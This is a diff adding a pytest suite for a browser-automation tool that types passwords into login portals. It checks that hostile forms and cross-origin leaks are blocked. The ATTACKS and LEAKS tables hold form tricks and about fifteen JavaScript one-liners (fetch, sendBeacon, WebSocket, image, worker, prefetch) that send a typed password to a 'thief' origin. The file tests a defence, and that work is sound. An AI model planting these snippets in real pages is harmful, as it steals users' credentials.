@@ -1,0 +1,201 @@
+"""Typing a secret: on one element, with all its checks at that instant, and nothing leaves for
+another origin while it stands in the page.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from collections.abc import AsyncIterator, Iterator
+
+import pytest
+import pytest_asyncio
+from releve.base.secret import Secret
+from releve.base.settings import Portal
+from releve.portal import TALKATIVE, browsers
+from releve.portal.browser import PortalBrowser
+from releve.portal.errors import FieldTooShort, OriginRefused, PortalError, UnsafeForm
+from test_find import Pages
+
+here = pytest.mark.asyncio(loop_scope="module")
+
+WORD = "Saisie-2026&<x>"
+
+
+@pytest.fixture(scope="module")
+def pages() -> Iterator[Pages]:
+    served = Pages()
+    yield served
+    served.server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def thief() -> Iterator[Pages]:
+    """Another origin, which writes down what it is asked."""
+    served = Pages()
+    yield served
+    served.server.shutdown()
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def window(pages: Pages) -> AsyncIterator[PortalBrowser]:
+    settings = Portal("xt012345", f"{pages.origin}/", origins=(pages.origin,), timeout_seconds=4)
+    browser = PortalBrowser(settings, browsers.find(), headed=False)
+    await browser.start()
+    yield browser
+    await browser.close()
+
+
+async def typed(window: PortalBrowser, pages: Pages, body: str, base: str = "") -> str:
+    """Type in the field of that body; returns what it holds then."""
+    pages.at["/"] = f"<!doctype html><meta charset=utf-8>{base}<body>{body}"
+    await window.goto(f"{pages.origin}/")
+    async with window.on("Authentification"), window.guarded():
+        field = window.page.locator("[data-is=it]")
+        try:
+            await window.type_secret(field, Secret(WORD))
+        finally:
+            held = await field.evaluate("el => el.value")
+    return str(held)
+
+
+HELD = "<input type=password data-is=it>"
+
+
+@here
+async def test_a_form_that_posts_here_is_typed_in(window: PortalBrowser, pages: Pages) -> None:
+    """With and without an action, and where a field is called as the form's own properties are."""
+    for form in (
+        f"<form method=post>{HELD}</form>",
+        f"<form method=POST action='/x'><input name=method value=get><input name=action>{HELD}</form>",
+        HELD,
+    ):
+        assert WORD == await typed(window, pages, form), form
+
+
+@here
+async def test_the_page_hears_of_it(window: PortalBrowser, pages: Pages) -> None:
+    """Scripts are told as by a keyboard."""
+    body = "<form method=post oninput='document.title+=`i`' onchange='document.title+=`c`'>"
+    assert WORD == await typed(window, pages, f"{body}{HELD}</form>")
+    assert "ic" == await window.page.title()
+
+
+ATTACKS = {
+    "get": ("<form>{held}</form>", "", UnsafeForm),
+    "method of the button": ("<form method=post>{held}<button formmethod=get>x</button></form>", "", UnsafeForm),
+    "action": ("<form method=post action='{thief}'>{held}</form>", "", OriginRefused),
+    "action under a field's name": (
+        "<form method=post action='{thief}'><input name=action value='/'>{held}</form>",
+        "",
+        OriginRefused,
+    ),
+    "formaction": (
+        "<form method=post id=f>{held}</form><button form=f formaction='{thief}'>x</button>",
+        "",
+        OriginRefused,
+    ),
+    "base": ("<form method=post action='x'>{held}</form>", "<base href='{thief}'>", OriginRefused),
+    "field of another form": ("<form id=f method=post action='{thief}'></form><input form=f data-is=it>", "", OriginRefused),
+    "too short": ("<form method=post><input type=password maxlength=8 data-is=it></form>", "", FieldTooShort),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+@here
+async def test_nothing_is_typed(
+    window: PortalBrowser, pages: Pages, thief: Pages, name: str
+) -> None:
+    """A form that would take it elsewhere, or show it in an address, gets nothing."""
+    body, base, error = ATTACKS[name]
+    facts = {"held": HELD, "thief": f"{thief.origin}/"}
+    with pytest.raises(error):
+        await typed(window, pages, body.format(**facts), base.format(**facts))
+    assert "" == await window.page.locator("[data-is=it]").evaluate("el => el.value")
+
+
+@here
+async def test_a_frame_of_another_origin_gets_nothing(
+    window: PortalBrowser, pages: Pages, thief: Pages
+) -> None:
+    """Where the frame stands counts, not the page around it."""
+    thief.at["/f"] = f"<form method=post>{HELD}</form>"
+    pages.at["/"] = f"<iframe src='{thief.origin}/f'></iframe>"
+    await window.goto(f"{pages.origin}/")
+    field = window.page.frame_locator("iframe").locator("[data-is=it]")
+    await field.wait_for()
+    with pytest.raises(PortalError):
+        async with window.on("Authentification"), window.guarded():
+            await window.type_secret(field, Secret(WORD))
+    assert "" == await field.evaluate("el => el.value")
+
+
+LEAKS = {
+    "picture": "new Image().src = u",
+    "fetch": "fetch(u, { mode: 'no-cors' })",
+    "beacon": "navigator.sendBeacon(u, v)",
+    "style": "document.body.style.backgroundImage = `url(${u})`",
+    "script": "document.head.append(Object.assign(document.createElement('script'), { src: u }))",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: u }))",
+    "form": "{ const f = document.createElement('form'); f.action = u; f.method = 'post'; document.body.append(f); f.submit() }",
+    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: u }))",
+    "rules to fetch ahead": "document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', "
+    "textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [u] }] }) }))",
+    "ping": "Object.assign(document.body.appendChild(document.createElement('a')), { href: '#', ping: u }).click()",
+    "address": "location = u",
+    "window": "window.open(u)",
+    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${u}', { mode: 'no-cors' })`])))",
+    "module": "import(u).catch(() => 0)",
+    "new socket": "new WebSocket(u.replace('http', 'ws'))",
+}
+
+
+@pytest.mark.parametrize("name", LEAKS)
+@here
+async def test_nothing_leaves_for_another_origin(
+    window: PortalBrowser, pages: Pages, thief: Pages, name: str
+) -> None:
+    """Whatever the page does with what is typed."""
+    thief.asked.clear()
+    script = f"const v = this.value, u = '{thief.origin}/?' + encodeURIComponent(v); {LEAKS[name]}"
+    held = f"<input type=password data-is=it oninput=\"{script}\">"
+    pages.at["/"] = f"<!doctype html><body><form method=post>{held}</form>"
+    await window.goto(f"{pages.origin}/")
+    async with window.on("Authentification"), window.guarded():
+        await window.type_secret(window.page.locator("[data-is=it]"), Secret(WORD))
+        await window.page.wait_for_timeout(250)
+    assert [] == [each for each in thief.asked if "Saisie" in each]
+
+
+@here
+async def test_the_guard_is_not_blind(
+    window: PortalBrowser, pages: Pages, thief: Pages
+) -> None:
+    """The same page reaches the other origin when no secret stands in it."""
+    thief.asked.clear()
+    pages.at["/"] = f"<body><script>new Image().src = '{thief.origin}/?seen'</script>"
+    await window.goto(f"{pages.origin}/")
+    await window.page.wait_for_load_state("networkidle")
+    assert ["/?seen"] == thief.asked
+
+
+@here
+async def test_a_secret_is_typed_behind_the_guard_only(window: PortalBrowser, pages: Pages) -> None:
+    """Whoever forgets it learns of it at once."""
+    pages.at["/"] = f"<form method=post>{HELD}</form>"
+    await window.goto(f"{pages.origin}/")
+    with pytest.raises(AssertionError, match="guard"):
+        await window.type_secret(window.page.locator("[data-is=it]"), Secret(WORD))
+
+
+def test_what_makes_playwright_talk_is_gone_before_it_is_imported() -> None:
+    """In a process that was started with all of it set."""
+    program = (
+        "import os, sys, releve.portal; assert 'playwright' not in sys.modules;"
+        "import releve.portal.browser; print([n for n in os.environ if n in releve.portal.TALKATIVE])"
+    )
+    environment = {name: "x" for name in TALKATIVE if name != "NODE_OPTIONS"} | {"PATH": ""}
+    done = subprocess.run(
+        [sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=True
+    )
+    assert "[]\n" == done.stdout
